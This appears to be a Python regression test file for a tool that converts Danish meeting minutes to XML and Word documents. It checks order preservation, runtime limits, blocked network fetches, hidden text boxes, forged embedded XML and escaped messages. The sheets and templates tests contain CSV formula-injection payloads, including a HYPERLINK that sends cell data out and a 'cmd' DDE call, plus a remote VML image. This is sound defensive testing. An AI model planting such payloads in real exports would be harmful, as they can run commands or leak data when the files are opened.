#!/usr/bin/env python3
"""Every fault that an adversary found in the first version, as the smallest input that shows it: each is mended, and fails
here without its mend.  The tests of each room go further: what they are is told beside each case."""
import csv
import io
import os
import re
import resource
import shutil
import socket
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from law import breach, referat2xml  # noqa: E402
from tap import converter, diag, done, is_, ok, skip  # noqa: E402

NS = '{urn:x-referat:1}'
SECONDS = 10  # of processor time, for a megabyte: far beyond what is linear, far below what is not
HEAD = 'REFERAT Udvalget for Havn d. 01-02-2024\n\n'


def read(text, *options):
    """The XML of the text, as bytes and parsed; law 1 holds."""
    made = referat2xml('-q', '--force', *options, input=text.encode())
    return made.stdout, ET.fromstring(made.stdout)


def holds(text, name):
    """Law 1, by the test's own check and by --verify."""
    document, root = read(text)
    message = breach(text.encode(), document)
    ok(message is None, f'{name}: text and order are kept') or diag(message)
    source, xml = path('source.txt', text.encode()), path('source.xml', document)
    is_(referat2xml('--verify', source, xml).returncode, 0, f'{name}: --verify finds nothing')
    return root


def path(name, data):
    where = os.path.join(folder, name)
    with open(where, 'wb') as file:
        file.write(data)
    return where


def changed(package, part, old, new):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as before, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as after:
        for entry in before.infolist():
            data = before.read(entry).decode()
            assert entry.filename != part or old in data, (part, old)
            after.writestr(entry, data.replace(old, new, 1) if entry.filename == part else data)
    return out.getvalue()


def limited():
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))


def ends(data, name):
    made = subprocess.run([converter('referat2xml'), '-q', '--force', '-o', os.devnull, path('long', data)], preexec_fn=limited)
    is_(made.returncode, 0, f'{name}: a megabyte comes to an end')


def order():
    """Text out of order; cases/list-order, cases/contents-order, property.py and the fuzzers go further."""
    root = holds(HEAD + 'Punkt 2: Broen\n\nBeslutning\n\n- Vagten får en bil.\n\n  Nøglerne er elektroniske.\n- Ingen er alene.\n',
                 "the second paragraph of a list's item")
    items = [''.join(li.itertext()).split() for li in root.iter(NS + 'li')]
    is_([words[0] for words in items], ['Vagten', 'Ingen'], 'it is two items')
    ok('Nøglerne' in items[0], 'and the paragraph stands in the first')
    for heading in ('Indstilling', 'Bilag'):
        holds(HEAD + f'Punkt 2: Broen\n\n{heading}\n\n- Vagten får en bil.\n\n  Nøglerne er elektroniske.\n- Ingen er alene.\n', f'the same below {heading}')
    holds(HEAD + 'Indholdsfortegnelse\n\nGodkendelse af dagsorden.....\t3\nGodkendelse af en lang titel\n\nSide 2 af 20\n\nder går over siden.....\t4\n\n'
          'Punkt 1: Godkendelse af dagsorden\n\nx\n', "a page's edge in an entry of the contents")
    holds('\x04-.. 5\n.\n:::\ne.. 5', 'contents of nothing')


def joins():
    """A join that depends on what stood before the line above; cases/join goes further."""
    line = 'dette er en linje som er brudt ved kolonne tres eller så kort\n'
    pair = 'en kort linje\nNy linje begynder her\n\n'
    root = holds(HEAD + 'Punkt 1: En sag\n\nSagsfremstilling\n\n' + (line * 3 + '\n') * 6 + line + pair + pair, 'wrapped lines')
    is_([e.tag.removeprefix(NS) for e in root.iter() if (e.tail or '').startswith('Ny linje')], ['lb', 'lb'], 'the same two lines are joined in the same way')
    words = 'Forvaltningen har gennemgået planen for havnen og foreslår at der arbejdes videre\n'
    ends((HEAD + 'Punkt 1: En sag\n\nSagsfremstilling\n\n' + words * (1 << 14)).encode(), 'a long wrapped paragraph')


def one_line():
    """XML without line ends; linear.py and scale.py go further."""
    source = '<source name="a" sha256="' + '0' * 64 + '" bytes="1" media-type="text/plain" encoding="UTF-8" generator="g"/>'
    ends(('<minutes xmlns="urn:x-referat:1" version="1" xml:lang="da" kind="minutes">' + source + '<head><title>A</title></head>' +
          '<p>abc def</p>' * 300000 + '</minutes>').encode(), 'XML in one line')


def fetched():
    """A request to the network; ways/programs.py goes further."""
    if not shutil.which('pandoc'):
        skip(2, 'pandoc is not installed')
        return
    listener = socket.socket()
    listener.bind(('127.0.0.1', 0))
    listener.listen()
    listener.setblocking(False)
    page = f'<html><body><h1>{HEAD}</h1><h2>Punkt 1: En sag</h2><p>Tekst</p><iframe src="http://127.0.0.1:{listener.getsockname()[1]}/x"></iframe><p>mere</p></body></html>'
    made = referat2xml('-q', '--force', input=page.encode())
    ok(made.returncode == 0 and b'mere' in made.stdout, 'a page with an iframe is read')
    try:
        listener.accept()
        ok(False, 'and nothing is asked of the network')
    except BlockingIOError:
        ok(True, 'and nothing is asked of the network')
    listener.close()


TEXT = (HEAD + 'Punkt 1: En sag\n\nSagsfremstilling\n\nHavnen skal uddybes.\n\nBeslutning\n\nGodkendt.\n').encode()
BOX = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p><w:r><w:t>I boksen</w:t></w:r></w:p>'
       '</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>')


def own_documents():
    """What is changed in our own documents: ways/edits.py and hidden.py go further, nomemory.py for what fails."""
    made = subprocess.run([converter('referat2docx'), '-q', '--embed-xml'], input=TEXT, capture_output=True).stdout

    def back(package):
        result = referat2xml(path('own.docx', package))
        root = ET.fromstring(result.stdout)
        return [s.get('outcome') for s in root.iter(NS + 'section') if s.get('outcome')], sorted({f.get('code') for f in root.iter(NS + 'finding')})
    is_(back(made), (['approved'], []), 'our own document is read')
    boxed = changed(made, 'word/document.xml', 'Havnen skal uddybes.</w:t></w:r></w:p>', 'Havnen skal uddybes.</w:t></w:r>' + BOX)
    is_(back(boxed), (['approved'], ['hidden-text']), 'a text box in it is told of')
    forged = changed(made, 'customXml/item1.xml', 'outcome="approved"', 'outcome="rejected"')
    is_(back(forged)[0], ['approved'], 'a forged attribute of the XML in it is not believed')
    linked = subprocess.run(['ldd', converter('referat2xml')], capture_output=True, text=True).stdout
    ok('libzip' in linked or not linked, 'a libzip that is missing keeps the program from starting')


def sheets():
    """Formulas in a table; injection.py goes further."""
    text = HEAD + 'Punkt 1: =HYPERLINK("http://x.example/?"&A1,"Klik")\n\nBeslutning\n\n=cmd|\'/C calc\'!A0 godkendt.\n\nPunkt 2: @SUM(1+1)*cmd\n\nBeslutning\n\n' \
        '+1+1\n\nPunkt 3: -2+3+cmd\n\nBilag\n\n- =1+1.pdf\n'
    for table in ('decisions', 'items', 'annexes'):
        made = referat2xml('-q', '--force', f'--extract={table}', input=text.encode()).stdout.decode()
        cells = [cell for row in csv.reader(io.StringIO(made, newline='')) for cell in row]
        ok(len(cells) >= 12, f'{table}: there are cells')
        is_([cell for cell in cells if re.match('[=+@-].', cell)], [], f'{table}: none is a formula')


def templates():
    """A picture elsewhere, by VML; office/outside.py goes further."""
    template = subprocess.run([converter('referat2docx'), '--print-reference-doc'], capture_output=True).stdout
    picture = '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://x.example/x.png"/></v:shape></w:pict></w:r></w:p>'
    for part in ('word/header1.xml', 'word/footer1.xml'):
        made = subprocess.run([converter('referat2docx'), '-q', '--reference-doc', path('template.docx', changed(template, part, '</w:p>', picture))],
                              input=TEXT, capture_output=True)
        is_((made.returncode, made.stdout), (65, b''), f'a picture elsewhere, in {part}, is refused')


def messages():
    """Escapes in a finding; injection.py goes further."""
    document = read(TEXT.decode())[0].replace(
        b'<head', '<finding code="vote-unclear" severity="warning" line="1" message="rlo \u202e c1 \u009b31m ls \u2028"/><head'.encode(), 1)
    made = referat2xml('-f', 'xml', input=document)
    said = made.stderr.decode()
    ok('rlo \\u{202e} c1 \\u{9b}31m' in said and not re.search('[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]', said), 'a finding shows what it holds') or diag(repr(said))


with tempfile.TemporaryDirectory() as folder:
    for find in (order, joins, one_line, fetched, own_documents, sheets, templates, messages):
        find()
done()
